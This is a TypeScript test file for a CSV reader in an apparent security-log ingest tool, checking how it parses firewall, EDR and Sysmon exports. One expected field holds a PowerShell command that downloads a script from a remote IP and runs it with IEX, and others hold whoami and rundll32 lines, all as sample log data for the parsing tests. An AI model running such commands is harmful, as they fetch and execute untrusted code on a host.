import { createReadStream, statSync } from "node:fs";
import { join } from "node:path";
import { Readable } from "node:stream";
import { CsvReader } from "../../../../../src/modules/ingest/csv/csv-reader";
import { uniqueHeader } from "../../../../../src/modules/ingest/csv/header";
import { IngestError } from "../../../../../src/shared/errors";

const FIXTURES = join(__dirname, "../../../../fixtures");
const MIB = 1024 * 1024;

function fixtureReader(name: string): CsvReader {
  return new CsvReader(createReadStream(join(FIXTURES, name)), name);
}

function textReader(text: string, file = "test.csv"): CsvReader {
  return new CsvReader(Readable.from([Buffer.from(text)]), file);
}

async function readAll(reader: CsvReader): Promise<string[][]> {
  const records: string[][] = [];
  for await (const record of reader) records.push(record);
  return records;
}

/** The IngestError reading fails with. */
async function failure(reader: CsvReader): Promise<IngestError> {
  const error = await readAll(reader).then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  expect(error).toBeInstanceOf(IngestError);
  return error as IngestError;
}

describe("CsvReader", () => {
  it("yields the header, then rows padded or extended, and counts them", async () => {
    const reader = fixtureReader("ragged-firewall.csv");
    expect(await readAll(reader)).toEqual([
      ["timestamp", "src_ip", "dst_ip", "dst_port", "action", "message"],
      ["2024-03-12T09:21:55Z", "10.20.30.42", "185.220.101.34", "8443", "allow", "outbound https"],
      ["2024-03-12T09:21:56Z", "10.20.30.42", "185.220.101.34", "8443", "allow", ""],
      ["2024-03-12T09:22:10Z", "10.20.30.42", "185.220.101.34", "8443", "deny", "policy 12", " rule 4", " geo RU"],
      ["2024-03-12T09:22:11Z", "10.20.30.57", "", "", "", ""],
      ["2024-03-12T09:23:00Z", "10.20.30.57", "198.51.100.7", "53", "allow", "dns", " udp"],
      ["2024-03-12T09:24:30Z", "10.20.30.61", "203.0.113.9", "22", "deny", "ssh brute force"],
    ]);
    expect(reader.header).toEqual(["timestamp", "src_ip", "dst_ip", "dst_port", "action", "message", "extra_1", "extra_2"]);
    expect([reader.rowCount, reader.paddedRows, reader.extendedRows]).toEqual([6, 2, 2]);
  });

  it("reports encoding, delimiter and the bytes read", async () => {
    const reader = fixtureReader("osquery-processes.tsv");
    expect([reader.encoding, reader.delimiter, reader.bytesRead]).toEqual([undefined, undefined, 0]);
    await readAll(reader);
    expect([reader.encoding, reader.delimiter, reader.bytesRead]).toEqual([
      "utf-8",
      "\t",
      statSync(join(FIXTURES, "osquery-processes.tsv")).size,
    ]);
  });

  it("counts bytes as it goes, for a progress bar", async () => {
    const chunk = Buffer.from("WS-FIN-042,10.20.30.42,443\n".repeat(600)); // 16.2 KB
    const chunks = [Buffer.from("host,ip,port\n"), ...Array<Buffer>(256).fill(chunk)];
    const total = chunks.reduce((sum, c) => sum + c.length, 0);
    const reader = new CsvReader(Readable.from(chunks), "big.csv");
    const seen: number[] = [];
    for await (const record of reader) {
      if (seen.length === 0 && record[0] !== "host") seen.push(reader.bytesRead);
    }
    seen.push(reader.bytesRead);
    expect(seen[0]).toBeGreaterThan(0);
    expect(seen[0]).toBeLessThan(total / 2);
    expect(seen[1]).toBe(total);
  });

  it("keeps delimiters, escaped quotes and line breaks inside quoted fields", async () => {
    const records = await readAll(fixtureReader("edr-process-multiline.csv"));
    expect(records).toHaveLength(5);
    expect(records[1][5]).toBe(
      "powershell.exe -NoProfile -Command \"$c = New-Object Net.WebClient\n$c.DownloadString('http://185.220.101.34:8443/a.ps1') | IEX\"",
    );
    expect(records[2][5]).toBe('cmd.exe /c "whoami /all, hostname"');
    expect(records[4][5]).toBe("rundll32.exe C:\\Users\\Public\\x.dll,Start");
  });

  it("reads a UTF-16 LE export with CRLF line ends", async () => {
    const reader = fixtureReader("sysmon-utf16le.csv");
    const records = await readAll(reader);
    expect([reader.encoding, reader.delimiter, records.length]).toEqual(["utf-16le", ",", 6]);
    expect(records[3][6]).toBe('"C:\\Windows\\System32\\cmd.exe" /c whoami /all');
    expect(records[5][11]).toBe("fra16s52-in-f14.1e100.net");
  });

  it("skips blank lines, CRLF ones and those at the end included", async () => {
    const reader = textReader("\r\nhost,ip\r\n\r\nws1,10.0.0.1\r\n\r\n\r\nws2,10.0.0.2\r\n\r\n");
    expect(await readAll(reader)).toEqual([
      ["host", "ip"],
      ["ws1", "10.0.0.1"],
      ["ws2", "10.0.0.2"],
    ]);
    expect(reader.paddedRows).toBe(0);
  });

  it("keeps a line of empty fields as a row", async () => {
    expect(await readAll(textReader("host,ip\n,\nws1,10.0.0.1\n"))).toEqual([
      ["host", "ip"],
      ["", ""],
      ["ws1", "10.0.0.1"],
    ]);
  });

  it("names extra columns past the names the header already has", async () => {
    const reader = textReader("host,extra_1\nws1,a,b,c\n");
    expect(await readAll(reader)).toEqual([
      ["host", "extra_1"],
      ["ws1", "a", "b", "c"],
    ]);
    expect(reader.header).toEqual(["host", "extra_1", "extra_2", "extra_3"]);
  });

  it("makes empty and repeated header names unique", async () => {
    expect((await readAll(textReader(" Name ,,Name\nsvchost.exe,4,lsass.exe\n")))[0]).toEqual(["Name", "column_2", "Name_2"]);
  });

  describe("rejects", () => {
    it("an empty file", async () => {
      const error = await failure(fixtureReader("empty.csv"));
      expect(error.message).toBe("empty.csv: file is empty: no header row");
      expect([error.file, error.line, error.reason]).toEqual(["empty.csv", undefined, "file is empty: no header row"]);
    });

    it("a file of blank lines", async () => {
      expect((await failure(textReader("\r\n\r\n\r\n", "blank.csv"))).message).toBe("blank.csv: file is empty: no header row");
    });

    it("a header without data rows", async () => {
      expect((await failure(fixtureReader("header-only.csv"))).message).toBe("header-only.csv line 1: header row but no data rows");
      expect((await failure(textReader("\n\nhost,ip\n\n", "late.csv"))).message).toBe("late.csv line 3: header row but no data rows");
    });

    it("a binary file", async () => {
      expect((await failure(fixtureReader("binary.png"))).message).toBe(
        "binary.png: file looks binary (NUL or control bytes), not a CSV export",
      );
    });

    it("text after a closing quote, on the line the record starts", async () => {
      const error = await failure(fixtureReader("malformed-quoting.csv"));
      expect(error.message).toBe(
        'malformed-quoting.csv line 4: malformed quoting: text after the closing quote of a field (a quote inside a quoted field is written "")',
      );
      expect(error.line).toBe(4);
    });

    it("a quote that is never closed, counting CRLF line breaks inside quoted fields once", async () => {
      const error = await failure(textReader('a,b\r\n1,"x\r\ny"\r\n\r\n2,"never closed\r\n3,4\r\n', "open.csv"));
      expect(error.message).toBe("open.csv line 5: malformed quoting: a quoted field is never closed");
    });

    it("a quote inside an unquoted field", async () => {
      expect((await failure(textReader('host,cmd\nws1,echo "hi"\n', "mid.csv"))).message).toBe(
        "mid.csv line 2: malformed quoting: a quote inside an unquoted field",
      );
    });

    it("a field larger than 1 MiB", async () => {
      const text = "host,cmd\nws1,whoami\nws2," + "A".repeat(MIB + 1) + "\nws3,id\n";
      expect((await failure(textReader(text, "access.csv"))).message).toBe("access.csv line 3: row larger than 1 MiB");
    });
  });

  it("accepts a field just under 1 MiB", async () => {
    const records = await readAll(textReader("host,cmd\nws2," + "A".repeat(MIB - 16) + "\n"));
    expect(records[1][1]).toHaveLength(MIB - 16);
  });

  it("passes the source's own errors through", async () => {
    const source = new Readable({ read() {} });
    source.push("host,ip\nws1,10.0.0.1\n");
    process.nextTick(() => source.destroy(new Error("disk on fire")));
    await expect(readAll(new CsvReader(source, "x.csv"))).rejects.toThrow("disk on fire");
  });

  it("closes the source when the consumer stops early", async () => {
    const source = createReadStream(join(FIXTURES, "velociraptor-netstat.csv"));
    for await (const record of new CsvReader(source, "netstat.csv")) {
      if (record[0] === "4") break;
    }
    await new Promise((resolve) => setImmediate(resolve));
    expect(source.destroyed).toBe(true);
  });
});

describe("uniqueHeader", () => {
  it.each([
    { header: ["host", "ip"], unique: ["host", "ip"] },
    { header: [" pid ", "Name"], unique: ["pid", "Name"] },
    { header: ["a", "", "c"], unique: ["a", "column_2", "c"] },
    { header: ["", " "], unique: ["column_1", "column_2"] },
    { header: ["Name", "Name", "Name"], unique: ["Name", "Name_2", "Name_3"] },
    { header: ["Name", "Name", "Name_2"], unique: ["Name", "Name_3", "Name_2"] },
    { header: ["", "column_1"], unique: ["column_1_2", "column_1"] },
    { header: ["Name", "name"], unique: ["Name", "name"] },
    { header: ["a", "a_2", "a", "a"], unique: ["a", "a_2", "a_3", "a_4"] },
  ])("$header → $unique", ({ header, unique }) => {
    expect(uniqueHeader(header)).toEqual(unique);
  });

  it("names 200,000 copies of one name in one pass (a 1.2 MB `a,a,a,...` header pinned the server before)", () => {
    const unique = uniqueHeader(Array.from({ length: 200_000 }, () => "a"));
    expect(unique.slice(0, 3)).toEqual(["a", "a_2", "a_3"]);
    expect(unique.at(-1)).toBe("a_200000");
    expect(new Set(unique).size).toBe(200_000);
  });
});
